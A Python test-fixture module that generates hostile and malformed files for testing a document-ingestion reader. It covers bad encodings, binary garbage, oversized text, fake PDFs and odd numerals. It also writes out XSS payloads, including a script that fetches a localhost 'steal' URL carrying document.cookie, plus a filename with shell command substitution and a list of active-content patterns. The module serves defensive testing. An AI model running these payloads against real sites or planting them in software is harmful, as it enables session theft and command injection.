"""Hostile and malformed inputs for the reliability tests, written at run time into a temp folder.

Each case says what a correct reader must do with it: `reject` (UnsupportedFile with a clear,
one-line message), `ingest` (a Document whose text passes `check`), or `either` (the issue allows
a clear refusal or a correct reading, e.g. a 50 MB text or an HTML page).
Nothing here is committed data: the 50 MB text and the random bytes are generated on each run.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Optional

from extract.models import Document

REPO = Path(__file__).resolve().parent.parent
SEED = REPO / "corpus" / "medical-dialogues_blinatumomab-infant-all.txt"

# A sentence every correct reading of the seed-derived files must keep verbatim.
SEED_SENTENCE = "Relapses occur in two-thirds of patients within a year"

MB = 1024 * 1024

# Markup that must never become live in the app; in a .txt/.md it is data and must be kept verbatim.
HOSTILE_SNIPPETS = [
    "<script>alert('xss-script')</script>",
    '<img src=x onerror="alert(\'xss-img\')">',
    "[click me](javascript:alert('xss-link'))",
    '<a href="javascript:alert(\'xss-a\')">trial results</a>',
    "**bold** _em_ # Heading | table | --- |",
    "<iframe src=\"http://127.0.0.1:1/\"></iframe>",
    "{{7*7}} ${7*7} $x^2$ <style>body{display:none}</style>",
]

# Figures written the ways real sources write them (Lancet middle dot, Unicode minus, thin spaces,
# decimal commas, full-width digits, overflow-sized exponents...).
ODD_NUMBERS_TEXT = "\n".join([
    "Two-year event-free survival was 95·2% (95% CI 88·1–98·0) with blinatumomab.",
    "The mean difference was −0.3 points (95% CI −0.6 to −0.1; p<.001).",
    "A total of 1 234 infants (thin space) and 12\u202f345 adults (narrow no-break space) were screened.",
    "Das Hazard Ratio betrug 0,72 (95%-KI 0,55–0,93) bei 1.234 Patienten.",
    "Response rate was ８１．６％ in the full-width arm and 81.6 % in the spaced arm.",
    "Platelets fell below 100 × 10⁹/L in 3 of 30 patients (10%); grade ≥3 events in ½ of them.",
    "The odds ratio was 1e309 in a typo-laden preprint and 9999999999999999999999 patients were claimed.",
    "Median follow-up was 26.3 mo (IQR, 18.0-31.2); HR=.45; RR 0.5e-1; n=  30; N = 30/30.",
    "Survival was 81.6%% (double percent), 81..6% (double dot) and 81.6.1% (two dots).",
    "Arabic-Indic digits ٣٠ and Devanagari digits ३० appear in transliterated tables.",
])


def seed_text() -> str:
    return SEED.read_text(encoding="utf-8")


def variant(tag: str) -> str:
    """The seed with one added line, so each encoding case is a distinct document in an index."""
    return seed_text() + f"\nEncoding check ({tag}): 30 infants, 81.6% disease-free survival.\n"


def latin1_text() -> str:
    """The seed article reduced to Latin-1 characters plus a line of typical accented words."""
    t = seed_text()
    for a, b in {"\u2019": "'", "\u2018": "'", "\u201c": '"', "\u201d": '"', "\u2013": "-", "\u2014": "-", "\u2265": ">="}.items():
        t = t.replace(a, b)
    return t + "\nDr. Pieters (Princess Máxima Center, Utrecht): the naïve cohort got 15 µg per day ± 2; fever 38.5 °C in ½ of cases. Café, Müller, São Paulo, Hôpital Necker.\n"


def cp1252_text() -> str:
    """The seed article as a Windows editor would save it: curly quotes and dashes in cp1252."""
    return seed_text().replace("\u2265", ">=") + "\nDr. Pieters said: \u201cthe results are remarkable\u201d \u2013 \u20ac 2 million funding.\n"


def big_text(size: int) -> str:
    """At least `size` bytes of realistic ASCII article text, in paragraphs."""
    para = latin1_text().encode("ascii", "replace").decode("ascii")
    reps = size // len(para) + 1
    return (para * reps)[:size]


def one_line_text(size: int) -> str:
    """`size` bytes of sentences with no newline at all (a minified page, a broken export)."""
    sentence = "Two-year disease-free survival was 81.6% (95% CI, 70.6 to 88.6) among 30 infants. "
    return (sentence * (size // len(sentence) + 1))[:size]


def random_bytes(n: int, seed: int, nul: bool = True) -> bytes:
    rng = random.Random(seed)
    data = bytes(rng.getrandbits(8) for _ in range(n))
    return data if nul else data.replace(b"\x00", b"\x01")


def real_pdf_bytes(text: str) -> bytes:
    from fpdf import FPDF

    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=11)
    pdf.multi_cell(0, 6, text)
    return bytes(pdf.output())


def hostile_html() -> str:
    body = "".join(f"<p>{line}</p>\n" for line in seed_text().split("\n") if line.strip())
    return (
        "<!doctype html><html><head><title>Blinatumomab in infants</title>"
        "<script>alert('xss-head');document.cookie</script>"
        "<style>p{color:red}</style></head><body>"
        "<nav><a href=\"javascript:alert('xss-nav')\">Home</a></nav>"
        f"<article>{body}"
        "<img src=x onerror=\"alert('xss-img')\">"
        "<p>Read the <a href=\"javascript:alert('xss-a')\">full trial</a>.</p>"
        "<svg onload=\"alert('xss-svg')\"></svg>"
        "<script>fetch('http://127.0.0.1:1/steal?c='+document.cookie)</script>"
        "</article></body></html>"
    )


def hostile_markdown() -> str:
    return seed_text() + "\n\n" + "\n".join(HOSTILE_SNIPPETS) + "\n"


@dataclass(frozen=True)
class InputCase:
    """One malformed or hostile file and what a correct reader does with it."""

    id: str
    filename: str
    make: Callable[[], bytes]
    expect: str  # "reject" | "ingest" | "either"
    check: Optional[Callable[[Document], None]] = None
    slow: bool = False
    reject_words: tuple[str, ...] = field(default_factory=tuple)  # one of these must be in a rejection message


def _text_equals(expected: Callable[[], str]) -> Callable[[Document], None]:
    def check(doc: Document) -> None:
        want = expected()
        if doc.text != want:
            diff = next((i for i, (a, b) in enumerate(zip(doc.text, want)) if a != b), min(len(doc.text), len(want)))
            raise AssertionError(
                f"text differs from the original at offset {diff}: got {doc.text[diff:diff + 40]!r}, "
                f"want {want[diff:diff + 40]!r} (len {len(doc.text)} vs {len(want)})"
            )
    return check


def _keeps_snippets(doc: Document) -> None:
    assert SEED_SENTENCE in doc.text
    for s in HOSTILE_SNIPPETS:
        assert s in doc.text, f"markup in a text file is data and must be kept verbatim: {s!r}"


def _html_is_inert(doc: Document) -> None:
    assert SEED_SENTENCE in doc.text, "the article body was lost"
    low = doc.text.lower()
    for bad in ("<script", "alert(", "onerror", "onload", "javascript:", "document.cookie", "p{color"):
        assert bad not in low, f"HTML reader kept active content {bad!r} in the document text"


def _seed_kept(doc: Document) -> None:
    assert SEED_SENTENCE in doc.text


def _length_is(n: int) -> Callable[[Document], None]:
    def check(doc: Document) -> None:
        assert len(doc.text) == n, f"text length {len(doc.text)} != {n}"
        assert "\n" not in doc.text.strip()
    return check


def _big_kept(doc: Document) -> None:
    assert len(doc.text) >= 50 * MB - 16, f"50 MB text truncated to {len(doc.text)} characters"
    assert SEED_SENTENCE in doc.text


def _odd_numbers_kept(doc: Document) -> None:
    assert doc.text == ODD_NUMBERS_TEXT


CASES: list[InputCase] = [
    InputCase("empty", "empty.txt", lambda: b"", "reject", reject_words=("empty",)),
    InputCase("whitespace-only", "blank.txt", lambda: b" \n\n\t \r\n ", "reject", reject_words=("empty", "no text")),
    InputCase("binary-garbage-txt", "garbage.txt", lambda: random_bytes(8192, 1), "reject",
              reject_words=("binary", "encoding", "text")),
    InputCase("binary-garbage-no-nul", "garbage2.txt", lambda: random_bytes(8192, 2, nul=False), "reject",
              reject_words=("binary", "encoding", "text")),
    InputCase("binary-garbage-bin", "garbage.bin", lambda: random_bytes(8192, 3), "reject",
              reject_words=("unsupported", "binary")),
    InputCase("elf-as-txt", "program.txt", lambda: b"\x7fELF\x02\x01\x01" + random_bytes(4000, 4), "reject",
              reject_words=("binary", "encoding", "text")),
    InputCase("big-50mb", "big.txt", lambda: big_text(50 * MB).encode("ascii"), "either", _big_kept, slow=True,
              reject_words=("MB", "large", "limit", "size")),
    InputCase("over-cap-60mb", "huge.txt", lambda: big_text(60 * MB).encode("ascii"), "reject", slow=True,
              reject_words=("MB", "large", "limit", "size")),
    InputCase("one-line-5mb", "oneline.txt", lambda: one_line_text(5 * MB).encode("ascii"), "either",
              _length_is(5 * MB), reject_words=("line", "MB", "large", "limit")),
    InputCase("latin-1", "latin1.txt", lambda: latin1_text().encode("latin-1"), "ingest", _text_equals(latin1_text)),
    InputCase("cp1252", "windows.txt", lambda: cp1252_text().encode("cp1252"), "ingest", _text_equals(cp1252_text)),
    InputCase("utf-16-bom", "utf16.txt", lambda: variant("utf-16").encode("utf-16"), "ingest",
              _text_equals(lambda: variant("utf-16"))),
    # Without a BOM, UTF-16 may be sniffed or refused; either way never a raw decode error.
    InputCase("utf-16-le-no-bom", "utf16le.txt", lambda: variant("utf-16-le").encode("utf-16-le"), "either",
              _text_equals(lambda: variant("utf-16-le")), reject_words=("binary", "encoding", "utf-16", "text")),
    InputCase("utf-8-bom-crlf", "crlf.txt", lambda: b"\xef\xbb\xbf" + variant("crlf").replace("\n", "\r\n").encode(),
              "ingest", _text_equals(lambda: variant("crlf"))),
    InputCase("hostile-html", "hostile.html", lambda: hostile_html().encode(), "either", _html_is_inert,
              reject_words=("unsupported", "html")),
    InputCase("hostile-markdown", "hostile.md", lambda: hostile_markdown().encode(), "ingest", _keeps_snippets),
    InputCase("hostile-text", "hostile.txt", lambda: (hostile_markdown() + "Plain-text copy.\n").encode(), "ingest",
              _keeps_snippets),
    InputCase("not-a-pdf", "paper.pdf", lambda: b"This is plain text with a .pdf name.\n" * 20, "reject",
              reject_words=("pdf",)),
    InputCase("truncated-pdf", "cut.pdf", lambda: real_pdf_bytes(seed_text().encode("latin-1", "replace").decode("latin-1"))[:400],
              "reject", reject_words=("pdf",)),
    InputCase("pdf-header-then-garbage", "junk.pdf", lambda: b"%PDF-1.7\n" + random_bytes(5000, 5), "reject",
              reject_words=("pdf",)),
    InputCase("odd-numbers", "numbers.txt", lambda: ODD_NUMBERS_TEXT.encode(), "ingest", _odd_numbers_kept),
]

# File names a user (or an attacker) can give: traversal, shell metacharacters, Unicode, a
# leading dash that an option parser could take for a flag, and a name at the 255-byte limit.
ODD_FILENAMES = [
    "résumé – trial (final) [v2] ü.txt",
    "semi;colon $(touch pwned) `id` & | > x.txt",
    "quote'\"s and spaces.txt",
    "-starts-with-dash.txt",
    "tab\tand\u200bzero-width.txt",
    "中文 报告.txt",
    ("a" * 251) + ".txt",
]
